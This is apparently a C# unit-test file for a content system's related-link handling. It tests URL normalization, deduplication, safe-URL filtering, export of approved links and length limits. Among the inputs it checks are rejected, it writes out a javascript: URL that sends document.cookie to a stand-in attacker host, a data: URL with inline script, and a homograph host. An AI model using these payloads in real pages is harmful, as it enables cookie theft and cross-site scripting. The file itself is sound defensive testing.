using Cms.Core.FrontMatter;
using Cms.Core.Items;

namespace Cms.Core.Tests;

// A related link is its normalized webUrl: what may change without making it another link, and
// what may not.
public sealed class LinkIdentityTests
{
    [Theory]
    [InlineData("https://www.reuters.com/world/a", "https://www.reuters.com/world/a")]
    [InlineData("HTTPS://WWW.Reuters.COM/world/a", "https://www.reuters.com/world/a")]
    [InlineData("https://www.reuters.com:443/world/a", "https://www.reuters.com/world/a")]
    [InlineData("http://www.reuters.com:80/world/a", "http://www.reuters.com/world/a")]
    [InlineData("https://www.reuters.com", "https://www.reuters.com/")]
    [InlineData("https://www.reuters.com/world/../world/a", "https://www.reuters.com/world/a")]
    [InlineData("https://bücher.example/a", "https://xn--bcher-kva.example/a")]
    [InlineData("https://news.example/caf\u00e9", "https://news.example/caf%C3%A9")]
    public void Scheme_host_default_port_empty_path_and_encoding_do_not_make_another_link(string url, string identity) =>
        Assert.Equal(identity, LinkIdentity.Of(url));

    [Theory]
    [InlineData("https://news.example/a", "https://news.example/a/")]
    [InlineData("https://news.example/a", "https://news.example/A")]
    [InlineData("https://news.example/story?id=1", "https://news.example/story?id=2")]
    [InlineData("https://news.example/story?id=1", "https://news.example/story")]
    [InlineData("https://news.example/a", "https://news.example/a#:~:text=hoax")]
    [InlineData("https://news.example/a", "http://news.example/a")]
    [InlineData("https://news.example/a", "https://news.example:8443/a")]
    [InlineData("https://news.example/a", "https://www.news.example/a")]
    public void Path_case_trailing_slash_query_fragment_scheme_port_and_host_do(string one, string other) =>
        Assert.NotEqual(LinkIdentity.Of(one), LinkIdentity.Of(other));

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("javascript:fetch('https://evil.example/?c='+document.cookie)")]
    [InlineData("data:text/html,<script>alert(1)</script>")]
    [InlineData("/relative/path")]
    [InlineData("//news.example/protocol-relative")]
    [InlineData("ftp://news.example/a")]
    [InlineData("mailto:desk@news.example")]
    [InlineData("https://news.example/a\nb")]
    [InlineData("https://news.example/\u0000")]
    public void A_value_that_is_not_an_absolute_http_url_on_one_clean_line_has_no_identity(string? url) =>
        Assert.Null(LinkIdentity.Of(url));

    [Fact]
    public void The_item_url_uses_the_same_normalizer_without_the_fragment()
    {
        Assert.True(UrlRules.IsAbsoluteHttp("HTTPS://News.Example:443/a?id=1#top", out var uri));

        Assert.Equal("https://news.example/a?id=1", UrlRules.NormalizeOriginalUrl(uri!));
        Assert.Equal("https://news.example/a?id=1#top", LinkIdentity.Of("HTTPS://News.Example:443/a?id=1#top"));
    }

    [Fact]
    public void Of_two_entries_with_one_url_the_first_is_the_link_and_the_second_has_none()
    {
        var assigned = LinkIdentity.Assign(["https://a.example/1", null, "https://b.example/2", "https://a.example/1"]);

        Assert.Equal([("https://a.example/1", null), (null, null), ("https://b.example/2", null), (null, 0)], assigned);
    }

    [Fact]
    public void The_parser_gives_each_related_entry_its_identity_and_names_a_duplicate()
    {
        var yaml = ItemYaml.Valid().Related(
            ItemYaml.Link("title", "first") + "\n" + ItemYaml.Link("webUrl", "https://A.example:443/1"),
            ItemYaml.Link("title", "script") + "\n" + ItemYaml.Link("webUrl", "javascript:alert(1)"),
            ItemYaml.Link("title", "again") + "\n" + ItemYaml.Link("webUrl", "https://a.example/1"));

        var item = new ItemParser(new YamlFrontMatterReader()).Parse("in/001_x.txt", yaml.ToBytes());

        Assert.Equal([("https://a.example/1", null), (null, null), (null, 0)], item.Related.Select(r => (r.Identity, r.DuplicateOf)));
    }

    // IsSafeUrl is read off the identities (issue 23 Build 6, seventh pass: the URL is not parsed a
    // second time): a duplicate's URL is as safe as its first entry's, an entry without a webUrl,
    // with an unsafe one or a relative one is not.
    [Fact]
    public void A_related_entry_is_safe_exactly_when_its_web_url_is_absolute_http_whether_first_or_duplicate()
    {
        var yaml = ItemYaml.Valid().Related(
            ItemYaml.Link("title", "first") + "\n" + ItemYaml.Link("webUrl", "https://a.example/1"),
            ItemYaml.Link("title", "script") + "\n" + ItemYaml.Link("webUrl", "javascript:alert(1)"),
            ItemYaml.Link("title", "again") + "\n" + ItemYaml.Link("webUrl", "HTTPS://a.example:443/1"),
            ItemYaml.Link("title", "no address"),
            ItemYaml.Link("title", "relative") + "\n" + ItemYaml.Link("webUrl", "/news/1"),
            ItemYaml.Link("title", "ftp") + "\n" + ItemYaml.Link("webUrl", "ftp://a.example/1"));

        var item = new ItemParser(new YamlFrontMatterReader()).Parse("in/001_x.txt", yaml.ToBytes());

        Assert.Equal([true, false, true, false, false, false], item.Related.Select(r => r.IsSafeUrl));
        Assert.Equal(item.Related.Select(r => UrlRules.IsAbsoluteHttp(r.Url)), item.Related.Select(r => r.IsSafeUrl));
    }
}

// The output keeps the related entries whose identity was approved, whatever their positions.
public sealed class ApprovedLinksExportTests
{
    private readonly YamlFrontMatterReader _reader = new();

    private SourceMapping Source(params string[] urls) => _reader.ReadText("a",
        "---\ntitle: t\noriginalUrl: \"https://e.com/a\"\nrelated:\n"
        + string.Concat(urls.Select((u, i) => $"  - title: \"link {i}\"\n    webUrl: \"{u}\"\n")) + "---\n").Root;

    private static List<string> Published(SourceMapping source, params string[] approved) =>
        ((SourceSequence)ItemExport.Apply(source, new ItemEdits(WorkflowState.Ready, true, null, null, [], approved.ToHashSet()))["related"]!)
            .Items.Cast<SourceMapping>().Select(m => ((SourceScalar)m["webUrl"]!).Value).ToList();

    [Fact]
    public void Reordered_entries_publish_the_approved_links_by_url_never_by_position()
    {
        var source = Source("https://propaganda.example/x", "https://a.example/1", "https://c.example/3");

        Assert.Equal(["https://a.example/1", "https://c.example/3"], Published(source, "https://a.example/1", "https://c.example/3"));
    }

    [Fact]
    public void An_entry_without_an_identity_or_a_second_entry_with_one_url_is_never_published()
    {
        var source = Source("javascript:alert(1)", "https://A.example:443/1", "https://a.example/1", "https://b.example/2");

        // Even an approval set naming the script could not publish it: it has no identity.
        Assert.Equal(["https://A.example:443/1"], Published(source, "https://a.example/1", "javascript:alert(1)"));
    }
}

// The one rule on how long a link's identity may be (the unique btree index), and what a URL taken
// from elsewhere than a source must meet.
public sealed class LinkIdentityLengthTests
{
    private static string Identity(int length) => "https://e.com/" + new string('a', length - "https://e.com/".Length);

    [Fact]
    public void An_identity_at_the_limit_fits_and_one_byte_more_does_not()
    {
        Assert.Null(LinkIdentity.TooLong(Identity(LinkIdentity.MaxLength)));
        Assert.Equal("is too long to be a related link: 2,601 bytes once normalized, over the limit of 2,600", LinkIdentity.TooLong(Identity(LinkIdentity.MaxLength + 1)));
    }

    [Fact]
    public void A_url_taken_from_elsewhere_meets_the_importers_url_limit_and_the_identity_limit()
    {
        var url = Identity(2_049);
        Assert.Equal("is 2,049 characters, over the limit of 2,048", LinkIdentity.Unfit(url, LinkIdentity.Of(url)!, 2_048));
        Assert.Null(LinkIdentity.Unfit(url, LinkIdentity.Of(url)!, 4_096));
        var cjk = "https://e.com/" + new string('\u4E2D', 300);
        Assert.Equal(LinkIdentity.TooLong(LinkIdentity.Of(cjk)!), LinkIdentity.Unfit(cjk, LinkIdentity.Of(cjk)!, 2_048));
        Assert.NotNull(LinkIdentity.TooLong(LinkIdentity.Of(cjk)!));
    }

    // REVIEW5 #9: a moved link's new address comes from a remote server; a look-alike host is kept
    // and shown in its ASCII form, and an ASCII host is left as it is.
    [Theory]
    [InlineData("https://\u0430pple.com/news/1?a=1#f", "https://xn--pple-43d.com/news/1?a=1#f")]
    [InlineData("https://apple.com/news/1", "https://apple.com/news/1")]
    [InlineData("http://\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444:8080/x", "http://xn--e1afmkfd.xn--p1ai:8080/x")]
    public void A_moved_address_keeps_its_host_in_ascii(string url, string expected)
    {
        Assert.Equal(expected, Cms.Core.Links.LinkRules.AsciiHost(new Uri(url)));
    }
}
